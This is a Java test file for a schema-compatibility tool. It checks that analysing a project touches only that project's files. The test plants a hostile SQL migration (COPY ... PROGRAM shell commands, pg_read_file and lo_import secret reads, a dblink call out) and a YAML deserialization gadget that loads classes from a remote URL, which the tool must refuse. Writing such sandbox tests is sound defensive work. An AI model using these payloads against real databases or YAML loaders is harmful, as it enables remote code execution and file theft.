package io.github.schemacompat.sandbox;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.condition.JRE.JAVA_23;

import io.github.schemacompat.release.TestRepository;
import java.io.File;
import java.io.IOException;
import java.net.URI;
import java.net.URLClassLoader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.condition.EnabledForJreRange;
import org.junit.jupiter.api.io.TempDir;

/** Whatever stands in a project: its files are read, its reports are written, and nothing else is touched. */
@Tag("slow")
@EnabledForJreRange(max = JAVA_23, disabledReason = "later Java has nothing that sees what a program touches")
class OnlyTheProjectTest {
    private static final String SCRIPTS = "src/main/resources/db/migration/";

    /** What would do something, were it run by the client or the engine that it is written for. */
    private static final String HOSTILE = """
            \\! touch %1$s
            \\i %2$s
            \\copy people FROM '%2$s'
            CREATE TABLE people (id bigserial PRIMARY KEY, name text);
            COPY people FROM PROGRAM 'touch %1$s';
            COPY people TO '%1$s';
            SELECT pg_read_file('%2$s'), lo_import('%2$s');
            CREATE EXTENSION dblink;
            SELECT * FROM dblink('host=203.0.113.1', 'SELECT 1') AS t(a int);
            DO $$ BEGIN EXECUTE 'COPY people TO PROGRAM ''touch %1$s'''; END $$;
            """;

    @TempDir
    private Path folder;

    private Path project;
    private Path outside;
    private Path secret;

    private void write(String file, String text) throws IOException {
        Path path = project.resolve(file);
        Files.createDirectories(path.getParent());
        Files.writeString(path, text);
    }

    private void prepare() throws IOException {
        Path real = folder.toRealPath();
        project = Files.createDirectory(real.resolve("project"));
        outside = real.resolve("outside");
        secret = Files.writeString(real.resolve("secret.txt"), "CREATE TABLE secret (id int);\n");
        write(SCRIPTS + "V1__people.sql", "CREATE TABLE people (id bigserial PRIMARY KEY, name text);\n");
        write(SCRIPTS + "V2__hostile.sql", HOSTILE.formatted(outside, secret));
        write(
                "src/main/resources/application.properties",
                "spring.datasource.url=jdbc:postgresql://203.0.113.1/shop\n");
    }

    private List<String> touched(String baseline) throws IOException, InterruptedException {
        List<String> command = new ArrayList<>(List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-XX:TieredStopAtLevel=1",
                "-Djava.security.manager=allow",
                // where git looks for what a user has set
                "-Duser.home=" + project,
                "-cp",
                classPath(),
                WatchedRun.class.getName(),
                project.toString(),
                baseline));
        ProcessBuilder builder = new ProcessBuilder(command).redirectError(ProcessBuilder.Redirect.DISCARD);
        builder.environment().put("XDG_CONFIG_HOME", project.toString());
        Process process = builder.start();
        String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
        process.waitFor();
        assertThat(outside).doesNotExist();
        return said.lines().toList();
    }

    /** Launchers of tests have class loaders of their own. */
    private static String classPath() {
        if (OnlyTheProjectTest.class.getClassLoader() instanceof URLClassLoader loader) {
            return Stream.of(loader.getURLs())
                    .map(url -> new File(URI.create(url.toString())).getPath())
                    .collect(Collectors.joining(File.pathSeparator));
        }
        return System.getProperty("java.class.path");
    }

    @Test
    void aCheckAnAuditAndASnapshot() throws IOException, InterruptedException {
        prepare();
        assertThat(touched("version:1")).containsExactly("done");
        assertThat(project.resolve("target/schema-compat/findings.html")).isNotEmptyFile();
        assertThat(project.resolve("src/schema-compat/2.0.json")).isNotEmptyFile();
    }

    /**
     * The git library asks the installed git for the machine's configuration, and measures how exact the times of files are;
     * it keeps the answer where the user keeps the configuration of programs.
     */
    @Test
    void withGit() throws IOException, InterruptedException {
        prepare();
        try (TestRepository repository = new TestRepository(project)) {
            repository.commit();
            repository.tag("v1.0");
        }
        write(SCRIPTS + "V3__more.sql", "ALTER TABLE people DROP COLUMN name;\n");
        assertThat(touched("git"))
                .startsWith("done")
                .filteredOn(line -> !line.matches("reads .*/(git|gitconfig|git\\.exe)"
                        + "|runs .*/git"
                        + "|(reads|writes|deletes) \\.git/objects(/\\.probe-.*)?"
                        + "|(reads|writes) jgit(/config(\\.lock)?)?"))
                .containsExactly("done");
    }

    @Test
    void configurationThatNamesClasses() throws IOException, InterruptedException {
        prepare();
        Files.delete(project.resolve("src/main/resources/application.properties"));
        write(
                "src/main/resources/application.yml",
                "spring: {flyway: {locations: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                        + " [\"http://203.0.113.1/\"]]]]}}\n");
        assertThat(touched("version:1")).hasSize(1).allMatch(line -> line.startsWith("refused: "));
    }
}
